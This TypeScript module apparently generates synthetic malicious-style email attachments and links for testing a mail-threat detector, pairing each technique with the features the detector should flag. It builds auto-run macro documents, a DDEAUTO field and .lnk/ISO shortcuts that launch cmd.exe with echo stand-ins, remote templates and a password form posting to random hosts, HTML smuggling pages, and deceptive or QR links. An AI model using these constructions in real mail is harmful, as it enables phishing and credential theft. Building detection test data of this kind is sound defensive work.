/** What a mail carries that acts, hides or leads astray: each technique on its own, put onto a draft. */
import type { Random } from '../recording/random.ts'
import type { Draft, DraftFile } from './draft.ts'
import { wordDocument, workbook } from './office-files.ts'
import {
  codePdf,
  codePng,
  diskImage,
  encryptedZip,
  launchPdf,
  linkPdf,
  oneNote,
  plainPdf,
  scriptFile,
  scriptPdf,
  shortcut,
  smugglingPage,
  zipOf,
} from './other-files.ts'
import { macroSource, oldWordDocument } from './vba.ts'

/** All ways. `none` carries nothing. */
export const payloadTechniques = [
  'macro-ole2',
  'macro-ooxml',
  'macro-autorun',
  'dde',
  'external-template',
  'embedded-object',
  'encrypted-archive',
  'html-smuggling',
  'shortcut',
  'disk-image',
  'onenote',
  'pdf-script',
  'pdf-launch',
  'nested-archive',
  'link-text-target',
  'link-shortener',
  'link-ip',
  'html-form',
  'qr-image',
  'qr-pdf',
] as const
export type PayloadTechnique = (typeof payloadTechniques)[number]

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const docm = 'application/vnd.ms-word.document.macroEnabled.12'

/** What the watch is to name for each: one of these features is enough. */
export const featuresOf: Readonly<Record<PayloadTechnique, readonly string[]>> = {
  'macro-ole2': ['macro', 'macro-autorun'],
  'macro-ooxml': ['macro', 'macro-autorun'],
  'macro-autorun': ['macro-autorun'],
  dde: ['dde'],
  'external-template': ['external-template'],
  'embedded-object': ['embedded-object', 'embedded-package', 'executable', 'script-file'],
  'encrypted-archive': ['encrypted-archive', 'archive-password'],
  'html-smuggling': ['html-smuggling'],
  shortcut: ['shortcut'],
  'disk-image': ['disk-image'],
  onenote: ['onenote-attachment'],
  'pdf-script': ['pdf-script'],
  'pdf-launch': ['pdf-launch'],
  'nested-archive': ['script-file', 'executable', 'macro', 'macro-autorun', 'shortcut'],
  'link-text-target': ['link-text-differs'],
  'link-shortener': ['link-shortener'],
  'link-ip': ['link-address'],
  'html-form': ['form-in-mail', 'html-form'],
  'qr-image': ['qr-code-link'],
  'qr-pdf': ['qr-code-link'],
}

const attach = (draft: Draft, name: string, type: string, bytes: Uint8Array): void => {
  draft.files.push({ name, type, bytes } satisfies DraftFile)
}

const badHost = (random: Random): string => `${random.letters(9)}.${random.pick(['com', 'net', 'xyz', 'top'])}`

/** Puts files onto the draft that act. `base` is a name without its ending. */
function attachFile(random: Random, draft: Draft, technique: PayloadTechnique, base: string, text: string): boolean {
  const run = macroSource(random.pick(['AutoOpen', 'Document_Open']))
  switch (technique) {
    case 'macro-ole2':
      attach(
        draft,
        `${base}.doc`,
        'application/msword',
        oldWordDocument(text, random.chance(0.7) ? run : macroSource('Update')),
      )
      return true
    case 'macro-ooxml':
      if (random.chance(0.3)) {
        attach(
          draft,
          `${base}.xlsm`,
          'application/vnd.ms-excel.sheet.macroEnabled.12',
          workbook(text, macroSource('Workbook_Open')),
        )
      } else
        attach(
          draft,
          `${base}.docm`,
          docm,
          wordDocument(text, { macro: random.chance(0.7) ? run : macroSource('Update') }),
        )
      return true
    case 'macro-autorun':
      attach(draft, `${base}.docm`, docm, wordDocument(text, { macro: run }))
      return true
    case 'dde':
      attach(
        draft,
        `${base}.docx`,
        docx,
        wordDocument(text, { field: 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo"' }),
      )
      return true
    case 'external-template':
      attach(draft, `${base}.docx`, docx, wordDocument(text, { template: `http://${badHost(random)}/t.dotm` }))
      return true
    case 'embedded-object':
      attach(
        draft,
        `${base}.docx`,
        docx,
        wordDocument(text, { embedded: { name: 'guide.js', bytes: scriptFile(text) } }),
      )
      return true
    case 'encrypted-archive': {
      const password = random.letters(8)
      const inner = wordDocument(text, { macro: run })
      attach(draft, `${base}.zip`, 'application/zip', encryptedZip(`${base}.docm`, inner, password))
      draft.paragraphs.push(
        random.pick([
          `The file is protected. The password is: ${password}`,
          `It opens with ${password}.`,
          `For privacy we locked the archive. Your code: ${password}`,
          `Key to the zip = ${password}`,
        ]),
      )
      return true
    }
    case 'html-smuggling':
      attach(draft, `${base}.html`, 'text/html', smugglingPage(`${base}.zip`, zipOf({ 'guide.js': scriptFile(text) })))
      return true
    case 'shortcut':
      attach(
        draft,
        `${base}.pdf.lnk`,
        'application/octet-stream',
        shortcut('..\\..\\Windows\\System32\\cmd.exe', `/c echo ${text.slice(-40)}`),
      )
      return true
    case 'disk-image':
      attach(
        draft,
        `${base}.iso`,
        'application/x-iso9660-image',
        diskImage('guide.lnk', shortcut('cmd.exe', `/c echo ${text.slice(-40)}`)),
      )
      return true
    case 'onenote':
      attach(draft, `${base}.one`, 'application/onenote', oneNote(scriptFile(text)))
      return true
    case 'pdf-script':
      attach(draft, `${base}.pdf`, 'application/pdf', scriptPdf(text))
      return true
    case 'pdf-launch':
      attach(draft, `${base}.pdf`, 'application/pdf', launchPdf(text))
      return true
    case 'nested-archive': {
      const inner = random.chance(0.5)
        ? { 'guide.js': scriptFile(text) }
        : { 'guide.docm': wordDocument(text, { macro: run }) }
      attach(draft, `${base}.zip`, 'application/zip', zipOf({ 'a.zip': zipOf({ 'b.zip': zipOf(inner) }) }))
      return true
    }
    default:
      return false
  }
}

/** Puts one technique onto the draft. `shownHost` is the host that the reader is to see. */
export function carry(
  random: Random,
  draft: Draft,
  technique: PayloadTechnique,
  at: { readonly base: string; readonly text: string; readonly shownHost: string },
): void {
  const { base, text, shownHost } = at
  if (attachFile(random, draft, technique, base, text)) return
  const path = `/${random.letters(6)}`
  const target = `https://${badHost(random)}${path}`
  if (technique !== 'qr-pdf') draft.hasHtml = true
  switch (technique) {
    case 'link-text-target':
      draft.htmlExtra += `<p><a href="${target}">https://www.${shownHost}${path}</a></p>`
      return
    case 'link-shortener':
      draft.htmlExtra += `<p><a href="https://${random.pick(['bit.ly', 'tinyurl.com', 'is.gd', 'cutt.ly'])}${path}">Open the guide</a></p>`
      return
    case 'link-ip':
      draft.htmlExtra += `<p><a href="http://198.51.100.${random.integer(1, 254)}${path}">Open the guide</a></p>`
      return
    case 'html-form':
      draft.htmlExtra += `<form action="${target}" method="post">User <input name="u"> Password <input type="password" name="p"><input type="submit" value="Sign in"></form>`
      return
    case 'qr-image':
      draft.htmlExtra += '<p>Scan the code with your phone:<br><img src="cid:code1" alt=""></p>'
      draft.files.push({ name: 'code.png', type: 'image/png', bytes: codePng(target), contentId: 'code1' })
      return
    default:
      attach(draft, `${base}.pdf`, 'application/pdf', codePdf(text, target))
  }
}

/** What sound mail carries: a plain document, a link to the sender's own site, or nothing. */
export function carrySound(random: Random, draft: Draft, base: string, text: string, site: string): void {
  switch (random.integer(0, 6)) {
    case 0:
      return attach(draft, `${base}.docx`, docx, wordDocument(text))
    case 1:
      return attach(
        draft,
        `${base}.pdf`,
        'application/pdf',
        random.chance(0.5) ? plainPdf(text) : linkPdf(text, `https://www.${site}/`),
      )
    case 2:
      return attach(
        draft,
        `${base}.xlsx`,
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        workbook(text),
      )
    case 3:
      return attach(draft, `${base}.doc`, 'application/msword', oldWordDocument(text))
    case 4:
      return attach(
        draft,
        `${base}.zip`,
        'application/zip',
        zipOf({ [`${base}.docx`]: wordDocument(text), 'read me.txt': new TextEncoder().encode(text) }),
      )
    case 5:
      draft.hasHtml = true
      draft.htmlExtra += `<p><a href="https://www.${site}/${random.letters(6)}">https://www.${site}</a></p>`
      return
    default:
      return
  }
}
